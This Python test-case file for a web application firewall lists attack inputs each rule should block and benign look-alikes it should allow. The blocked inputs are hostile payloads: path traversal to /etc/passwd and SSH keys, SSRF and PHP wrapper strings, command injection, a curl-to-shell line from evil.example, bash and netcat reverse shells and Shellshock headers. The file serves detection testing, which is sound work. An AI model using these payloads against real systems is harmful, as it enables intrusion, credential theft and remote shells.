"""What the rules of 30-files.conf and 40-commands.conf find, and what they let pass."""

from tests.unit.plugins.waf.core.cases import (
    arg,
    args,
    cookie,
    field,
    header,
    json,
    path,
    upload,
)

FILES = {
    440310: (
        [
            path("/static/../../etc/x"),
            path("/%2e%2e/%2e%2e/x"),
            path("/a/..%2f..%2fx"),
            path("/a/..;/manager"),
        ],
        [path("/a..b/c"), path("/v1.2../x"), path("/?next=../a"), path("/.well-known/x")],
    ),
    440311: (
        [
            arg("../../../../x"),
            arg("..\\..\\x"),
            arg("....//....//x"),
            arg("images/../../x"),
            cookie("lang=../../x"),
            args("f=..%252f..%252fx"),
        ],
        [
            arg("../a.png"),
            arg("see ../../README"),
            field('<img src="../../a.png">'),
            arg("wait... / no... /"),
        ],
    ),
    440312: (
        [
            arg("/etc/passwd"),
            arg("../etc/shadow"),
            arg("file:///etc/group"),
            arg("/proc/self/environ"),
            path("/x/etc/passwd"),
            arg("/home/bob/.ssh/id_rsa"),
        ],
        [
            arg("where is /etc/passwd documented?"),
            arg("/etc/hosts"),
            arg("/etcetera/passwd"),
            arg("etc. passwd"),
        ],
    ),
    440313: (
        [arg("c:\\windows\\win.ini"), arg("C:/boot.ini"), arg("../WEB-INF/web.xml"), path("/x/META-INF/a")],
        [arg("windows"), arg("new windows/doors for the house"), arg("boot.initial")],
    ),
    440314: (
        [path("/.git/config"), path("/app/.env"), path("/.env.production"), path("/.htpasswd")],
        [path("/.well-known/acme-challenge/x"), path("/git/config"), path("/environment")],
    ),
    440315: (
        [
            path("/wp-config.php.bak"),
            path("/dump.sql.gz"),
            path("/index.php~"),
            path("/web.config"),
            path("/a.bak"),
        ],
        [path("/baker"), path("/sql"), path("/old/page"), path("/index.php")],
    ),
    440316: (
        [
            arg("php://filter/convert.base64-encode/resource=index.php"),
            arg("phar://a.phar"),
            arg("expect://id"),
        ],
        [arg("https://example.com/"), arg("what does php://input do?"), arg("zip:90210")],
    ),
    440317: (
        [
            arg("gopher://127.0.0.1:6379/_x"),
            arg("file:///var/x"),
            arg("dict://a:11211/"),
            json('{"u": "ldap://a/b"}'),
        ],
        [arg("https://a.example/"), arg("mailto:a@b.example"), arg("file a claim"), arg("jar: a vessel")],
    ),
    440318: (
        [arg("http://evil.example/shell.txt?"), arg("http://evil.example/c99.php?")],
        [
            arg("http://a.example/a.txt"),
            arg("https://a.example/a.php?id=1"),
            arg("is http://a.example/a.txt? up"),
        ],
    ),
    440319: (
        [upload("a.php"), upload("a.php.jpg"), upload("x.JSP"), upload(".htaccess"), upload("a.aspx;.jpg")],
        [upload("a.jpg"), upload("php notes.pdf"), upload("asp.net.docx"), upload("보고서.hwp")],
    ),
    440320: ([upload("../../x.png"), upload("..\\x.png")], [upload("x..png"), upload("a - b.png")]),
    440321: (
        [args("file=/etc/services"), args("f=file:///etc/nginx/nginx.conf")],
        [arg("/etc/hosts"), args("f=etc/x"), args("f=the+/etc/+folder")],
    ),
    440330: (
        [arg("../x"), arg("a/../b"), arg("see ../x")],
        [arg("x.."), arg("and so on.../"), arg("a/b")],
    ),
    440331: (
        [arg("show me /etc/passwd now"), arg("x boot.ini y")],
        [arg("etc"), arg("passwd"), arg("reboot in it")],
    ),
    440332: ([arg("try php://input"), arg("use zip://a")], [arg("php: //"), arg("http://a.example")]),
    440333: ([upload("a.sh"), upload("setup.exe")], [upload("a.txt"), upload("show.mp4")]),
    440334: ([arg("http://192.0.2.9/x"), arg("ftp://192.0.2.9:21/")], [arg("http://a.example/192.0.2.9/")]),
    440340: ([arg("https://a.example/")], [arg("see https://a.example/"), arg("a.example")]),
    440341: ([path("/app.ini"), path("/server.key"), path("/x.log")], [path("/keys"), path("/a.html")]),
}

COMMANDS = {
    440410: (
        [
            arg("127.0.0.1; cat /etc/passwd"),
            arg("127.0.0.1;id"),
            arg("x|whoami"),
            arg("x && ls -la"),
            arg("$(id)"),
            arg("a`id`"),
            arg("';ping -c 3 127.0.0.1;'"),
            arg("8.8.8.8\n/usr/bin/id"),
            arg("; sleep 5"),
            json('{"host": "a;curl http://evil.example/x|sh"}'),
        ],
        [
            arg("cats; dogs; find a home"),
            arg("rock & roll"),
            arg("pros; cons"),
            field("Run make && make install first"),
            field("ps aux | grep nginx"),
            arg("Tom; Jerry"),
            arg("a|b|c"),
            arg("red;green;blue"),
        ],
    ),
    440411: (
        [arg("127.0.0.1 & ping -n 3 127.0.0.1"), arg("x&whoami&"), arg("x& cat /etc/x")],
        [arg("passport & id"), arg("cat & dog"), arg("R&D"), arg("Johnson & Johnson")],
    ),
    440412: (
        [arg("cat$IFS/etc/passwd"), arg("x;cat${IFS}a"), arg("{cat,/etc/passwd}"), header("X-Api", "${IFS}")],
        [arg("GIFS"), arg("{id, name}"), json('{"a": "{cat} sat"}')],
    ),
    440413: (
        [
            arg("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
            arg("nc -e /bin/sh 192.0.2.1 1"),
            arg("x nc -lvp 4 -e cmd.exe"),
        ],
        [arg("/dev/null"), arg("nc -l 80"), arg("NC State"), arg("bash -c true")],
    ),
    440414: (
        [
            arg("127.0.0.1 && dir c:\\"),
            arg("x|type c:\\boot.ini"),
            arg("x& net user"),
            arg("a;ipconfig /all"),
            arg("1|ver"),
        ],
        [arg("type & size"), arg("A&E network"), arg("copy; paste"), arg("black|white")],
    ),
    440415: (
        [
            arg("cmd.exe /c dir"),
            arg("run cmd /k ver"),
            arg("powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
            arg("certutil -urlcache -f http://a/b c"),
        ],
        [arg("powershell tutorial"), arg("cmd"), arg("cmd + c"), arg("certutil manual")],
    ),
    440416: (
        [
            header("User-Agent", "() { :;}; /bin/bash -c id"),
            header("Referer", "() { ignored; }; echo x"),
            arg("() { x"),
        ],
        [arg("() => { x }"), arg("function f() { return 1 }"), header("Referer", "https://a.example/f()")],
    ),
    440417: (
        [arg("one two; cat /etc/passwd"), field("a b c | head -3 /etc/shadow"), arg("a b $(cat /etc/hosts)")],
        [arg("how to cat /etc/passwd"), field("tail -f /var/log/syslog | grep x")],
    ),
    440418: (
        [arg("x;c''at /etc/x"), arg("x;w\\hoami"), arg('x|wh""oami'), arg("x;/b?n/c?t a")],
        [arg("it's; that's"), arg("a;b"), arg("what? who?; no"), arg("C:\\temp")],
    ),
    440419: (
        [arg("$(whoami)"), arg("x`uname -a`"), arg("a$(cat x)b")],
        [
            field("`ls -la` shows hidden files too"),
            arg("$(document)"),
            arg("$(selector).hide()"),
            field("The `id` is a number"),
        ],
    ),
    440430: (
        [field("one two three; ls -la"), field("Run ps aux | grep -v x"), field("cd x && rm -rf y")],
        [field("cats; dogs"), arg("this | that"), field("a; b; c")],
    ),
    440431: (
        [arg("/bin/ls"), arg("cat ../x"), arg("ping 127.0.0.1"), arg("id;x")],
        [arg("cat food"), arg("ping pong"), arg("binary"), arg("identity")],
    ),
    440432: ([arg("/???/c?t /x"), arg("c''a''t /etc/x")], [arg("what? /a"), arg("/a/b/c")]),
    440440: ([arg("one;two"), arg("x|y2 -a")], [arg("one; "), arg("plain text")]),
}
